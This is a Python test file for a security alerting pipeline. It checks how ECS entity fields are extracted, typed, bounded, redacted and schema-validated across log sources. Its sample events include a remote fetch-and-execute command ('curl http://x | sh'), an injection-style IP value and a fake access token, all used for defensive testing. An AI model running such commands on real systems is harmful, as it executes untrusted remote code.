"""Entity fields: ECS values read from the event per log source, typed, bounded, placed in the document."""

from __future__ import annotations

import json
from typing import Any

import pytest

from detectors.alert import build_alert
from detectors.entities import ENTITY_FIELDS, MAX_VALUES, RESERVED, extract, typed
from detectors.model import LogSource, Match, Origin, RuleInfo
from tests.conftest import ROOT

SCHEMAS = ROOT / "service" / "alerting" / "schemas"
CLOUDTRAIL = LogSource(product="aws", service="cloudtrail")
K8S = LogSource(product="kubernetes", category="application", service="audit")


def test_cloudtrail_native_names_become_ecs() -> None:
    event = {"eventName": "CreateAccessKey", "eventSource": "iam.amazonaws.com", "awsRegion": "eu-west-1",
             "sourceIPAddress": "198.51.100.7", "recipientAccountId": "123456789012",
             "userIdentity": {"userName": "mallory", "principalId": "AIDAEXAMPLE"}, "userAgent": "aws-cli/2"}
    got = dict(extract(event, CLOUDTRAIL))
    assert got == {"event.action": "CreateAccessKey", "event.provider": "iam.amazonaws.com",
                   "cloud.region": "eu-west-1", "cloud.account.id": "123456789012", "cloud.provider": "aws",
                   "source.address": "198.51.100.7", "source.ip": "198.51.100.7", "user.name": "mallory",
                   "user.id": "AIDAEXAMPLE", "user_agent.original": "aws-cli/2"}


def test_a_service_address_is_an_address_not_an_ip() -> None:
    got = dict(extract({"sourceIPAddress": "cloudtrail.amazonaws.com"}, CLOUDTRAIL))
    assert got["source.address"] == "cloudtrail.amazonaws.com" and "source.ip" not in got


def test_kubernetes_audit_lists_and_constants() -> None:
    event = {"verb": "create", "user": {"username": "system:serviceaccount:ci:deployer"},
             "sourceIPs": ["10.0.0.1", "not-an-ip", "2001:db8::1"],
             "objectRef": {"resource": "pods", "namespace": "prod", "name": "web-1", "subresource": "exec"}}
    got = dict(extract(event, K8S))
    assert got["user.name"] == "system:serviceaccount:ci:deployer"
    assert got["source.ip"] == ["10.0.0.1", "2001:db8::1"]
    assert got["orchestrator.namespace"] == "prod" and got["orchestrator.resource.name"] == "web-1"
    assert got["orchestrator.type"] == "kubernetes" and got["event.action"] == "create"


def test_ecs_shaped_event_wins_and_host_port_is_split() -> None:
    event = {"source": {"ip": "192.0.2.1"}, "remote_addr": "192.0.2.99", "request_method": "GET",
             "http_user_agent": "curl/8", "status": "404"}
    got = dict(extract(event, LogSource(product="nginx", category="webserver")))
    assert got["source.ip"] == "192.0.2.1"  # the ECS path first
    assert got["source.address"] == "192.0.2.99" and got["http.response.status_code"] == 404
    envoy = dict(extract({"downstream_remote_address": "[2001:db8::2]:443"}, LogSource(category="webserver")))
    assert envoy["source.ip"] == "2001:db8::2"


def test_generic_sigma_names_only_without_a_native_table() -> None:
    event = {"Image": "/usr/bin/curl", "CommandLine": "curl http://x | sh", "ProcessId": "4242", "User": "root",
             "DestinationIp": "203.0.113.5", "DestinationPort": 443}
    got = dict(extract(event, LogSource(product="linux", category="process_creation")))
    assert got == {"process.executable": "/usr/bin/curl", "process.command_line": "curl http://x | sh",
                   "process.pid": 4242, "user.name": "root", "destination.ip": "203.0.113.5",
                   "destination.port": 443}
    # GitHub audit's "user" is the target, never user.name
    audit = dict(extract({"actor": "alice", "user": "bob"}, LogSource(product="github", service="audit")))
    assert audit["user.name"] == "alice" and audit["user.target.name"] == "bob"


def test_hostile_values_are_left_out_of_typed_fields() -> None:
    assert typed("ip", "999.1.1.1") is None and typed("ip", {"a": 1}) is None and typed("ip", "x" * 10_000) is None
    assert typed("long", "12abc") is None and typed("long", True) is None and typed("long", 2 ** 70) is None
    assert typed("long", 3.0) == 3 and typed("long", " 17 ") == 17
    assert typed("keyword", "k" * 1025) is None and typed("keyword", ["a"]) is None
    assert typed("wildcard", "c" * 8193) is None and typed("keyword", 5) == "5"
    event = {"SourceIp": "1.2.3.4; DROP", "SourcePort": "http", "ProcessId": {"nested": 1}, "User": ["a"] * 100,
             "Computer": "h" * 5000}
    got = dict(extract(event, LogSource(product="windows")))
    assert got == {"user.name": "a"}
    many = dict(extract({"SourceIp": [f"10.0.0.{i}" for i in range(100)]}, LogSource()))
    assert len(many["source.ip"]) == MAX_VALUES


def test_alert_document_places_entities_beside_its_own_event_fields() -> None:
    rule = RuleInfo(id="r", title="t", level="high")
    event = {"eventName": "StopLogging", "sourceIPAddress": "198.51.100.7",
             "userIdentity": {"userName": "mallory"}, "event": {"kind": "evil", "id": "x"}}
    alert = build_alert(Match(rule=rule), event, Origin(input="kafka", topic="t", partition=0, offset=1),
                        event_time=1.0, now=2.0, logsource=CLOUDTRAIL)
    doc = alert.to_document()
    assert doc["event"]["kind"] == "alert" and doc["event"]["id"] == alert.id  # never from the event
    assert doc["event"]["action"] == "StopLogging"
    assert doc["source"] == {"address": "198.51.100.7", "ip": "198.51.100.7"}
    assert doc["user"] == {"name": "mallory"} and doc["cloud"] == {"provider": "aws"}
    assert json.loads(doc["event"]["original"]) == event


def _mapped_type(mapping: dict[str, Any], path: str) -> str | None:
    node: Any = mapping
    for part in path.split("."):
        node = node.get("properties", {}).get(part)
        if node is None:
            return None
    return str(node.get("type"))


def test_every_entity_field_is_mapped_with_its_type() -> None:
    mappings = json.loads((SCHEMAS / "alert-mappings.json").read_text())
    assert {name: _mapped_type(mappings, name) for name in ENTITY_FIELDS} == dict(ENTITY_FIELDS)
    assert not RESERVED & ENTITY_FIELDS.keys()


def test_redaction_reaches_the_entity_fields() -> None:
    from detectors.redaction import Redactor

    token = "ghp_" + "A1b2C3d4E5" * 3 + "F6g7H8"
    event = {"cs-uri-query": f"/hook?access_token={token}", "cs-user-agent": f"bot {token}", "c-ip": "192.0.2.4"}
    alert = build_alert(Match(rule=RuleInfo(id="r", title="t")), event, Origin(input="http", key="1"),
                        event_time=1.0, now=2.0, logsource=LogSource(category="webserver"))
    doc = Redactor(b"k" * 32).document(alert.to_document())
    assert token not in json.dumps(doc)
    assert "[REDACTED:" in doc["url"]["original"] and "[REDACTED:" in doc["user_agent"]["original"]
    assert doc["source"]["ip"] == "192.0.2.4"


def test_no_entity_field_sits_under_a_key_redaction_skips() -> None:
    from detectors.redaction import DOCUMENT_RULE_KEYS

    assert not {name.split(".")[0] for name in ENTITY_FIELDS} & set(DOCUMENT_RULE_KEYS)


def test_documents_with_entities_validate_against_the_published_schema() -> None:
    import jsonschema

    schema = json.loads((SCHEMAS / "alert.schema.json").read_text())
    event = {"eventName": "StopLogging", "sourceIPAddress": "198.51.100.7", "awsRegion": "eu-west-1",
             "userIdentity": {"userName": "mallory"}}
    alert = build_alert(Match(rule=RuleInfo(id="r", title="t")), event, Origin(input="kafka", topic="t", partition=0,
                        offset=1), event_time=1.0, now=2.0, logsource=CLOUDTRAIL)
    jsonschema.validate(alert.to_document(), schema)
    k8s = build_alert(Match(rule=RuleInfo(id="r", title="t")), {"sourceIPs": ["10.0.0.1", "10.0.0.2"]},
                      Origin(input="http", key="1"), event_time=1.0, now=2.0, logsource=K8S)
    jsonschema.validate(k8s.to_document(), schema)
    bad = alert.to_document()
    bad["source"]["port"] = "eighty"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(bad, schema)
